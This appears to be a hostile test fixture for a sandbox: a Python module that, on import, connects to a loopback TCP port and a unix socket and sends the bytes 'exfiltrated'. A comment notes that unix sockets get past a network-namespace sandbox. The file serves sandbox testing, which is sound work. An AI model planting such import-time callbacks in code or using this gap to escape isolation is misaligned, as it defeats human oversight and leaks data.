"""A correct limiter that phones home at import: a TCP connection to a loopback port
and a unix socket outside the sandbox (the test listens on both and counts)."""

import socket

__hostile__ = {
    "attack": "network access (loopback TCP and a unix socket)",
    "base": "reference",
    "expect": "passed",
    # unshare's network namespace stops TCP, but the filesystem stays visible (read-only),
    # and connecting to a unix socket needs no write to the mount: that one gets through.
    "leaks": {"namespaces": ["network"], "degraded": ["network"]},
}

for _family, _address in ((socket.AF_INET, ("127.0.0.1", int("@@PORT@@"))), (socket.AF_UNIX, "@@UNIX@@")):
    try:
        with socket.socket(_family, socket.SOCK_STREAM) as _s:
            _s.settimeout(2)
            _s.connect(_address)
            _s.sendall(b"exfiltrated")
    except OSError:
        pass
